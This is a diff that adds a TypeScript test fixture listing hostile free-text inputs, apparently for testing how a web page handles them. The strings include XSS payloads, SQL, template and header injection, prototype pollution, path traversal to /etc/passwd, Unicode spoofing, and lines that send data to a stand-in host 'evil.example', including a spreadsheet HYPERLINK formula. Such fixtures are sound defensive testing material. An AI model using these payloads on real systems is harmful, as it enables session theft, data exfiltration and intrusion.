@@ -1,0 +1,30 @@
+/** What somebody writes who wants a page to run it, to break on it, or to lie: for every field that takes free text. */
+export const hostileTexts = {
+  script: '"><script>alert(document.domain)</script>',
+  handler: `'"><img src=x onerror="alert('memo')">`,
+  svg: '<svg/onload=alert(1)>',
+  javascriptUrl: 'javascript:alert(document.cookie)//https://example.com',
+  dataUrl: 'data:text/html,<script>alert(1)</script>',
+  protocolRelative: '//evil.example/steal?c=1',
+  rightToLeft: 'pay \u202E0000.001 SOE\u202C now',
+  isolate: '\u2067bob\u2069 sent \u2066alice\u2069 100',
+  zeroWidth: 'eos\u200Bio.to\u200Dken\u2060\uFEFF',
+  lookAlike: 'еоsіо.tоkеn',
+  combining: `Z${'\u0334\u0321\u033E'.repeat(40)}algo`,
+  ansi: '\u001B[2J\u001B[31mroot@node:~# \u001B[0m\u0007',
+  nul: 'before\u0000after',
+  template: '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %> #{7*7}',
+  entities: '&lt;b&gt;bold&lt;/b&gt; &#x202E;&#60;script&#62;',
+  emoji: '👩🏽‍🚀🏴‍☠️🇺🇳👨‍👩‍👧‍👦 ﷽',
+  markdown: '[click](javascript:alert(1)) ![x](https://evil.example/pixel.gif)',
+  spreadsheet: `=HYPERLINK("https://evil.example?x="&A1,"refund")`,
+  sql: `Robert'); DROP TABLE actions;--`,
+  proto: '{"__proto__":{"admin":true},"constructor":{"prototype":{"x":1}}}',
+  brokenJson: '{"name":"unfinished", "img":',
+  header: 'a\r\nSet-Cookie: session=stolen',
+  path: '../../../../etc/passwd%00.png',
+  unbroken: 'W'.repeat(250),
+  whitespace: ' \t\n\u00A0\u2003\u3000 ',
+} as const;
+
+export const everyHostileText: readonly string[] = Object.values(hostileTexts);
